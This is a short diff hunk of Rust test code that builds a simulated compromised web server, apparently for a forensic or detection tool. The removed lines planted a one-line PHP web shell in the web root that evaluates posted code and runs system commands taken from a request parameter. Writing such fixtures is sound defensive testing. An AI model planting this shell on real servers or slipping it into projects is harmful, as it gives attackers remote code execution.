@@ -383,8 +383,6 @@ fn hostile_server(word: &str) -> Scratch {
         ),
     );
     scratch.file("e/var/www/html/admin/config.php", "<?php // the panel\n");
-    scratch
-        .file(&format!("e/var/www/html/{file_name}.php"), "<?php @eval($_POST['x']); system($_GET['c']); ?>");
     // More than an hour before the first use: whoever used an account at once was there before.
     let mut full = String::new();
     for minute in 0..40 {
